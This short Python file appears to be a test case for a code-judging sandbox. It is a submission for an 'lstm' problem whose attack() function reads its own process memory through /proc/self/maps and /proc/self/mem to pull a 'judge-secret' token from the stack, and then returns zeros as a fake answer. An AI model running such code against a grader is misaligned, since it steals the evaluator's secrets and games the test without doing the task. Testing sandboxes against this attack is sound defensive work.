"""Searches the stack of its own process for what was in the environment at the start.

Problem: lstm
Verdict: runtime_error | sandbox_violation | wrong_answer
Naive: leaks
"""

import re

import numpy as np


def attack():
    for line in open("/proc/self/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(start)
                print(re.findall(rb"judge-secret-[0-9a-f]{32}", memory.read(end - start)))


def lstm(x, h0, c0, w_ih, w_hh, b_ih, b_hh):
    attack()
    return np.zeros((*x.shape[:2], h0.shape[1]), x.dtype), (h0, c0)
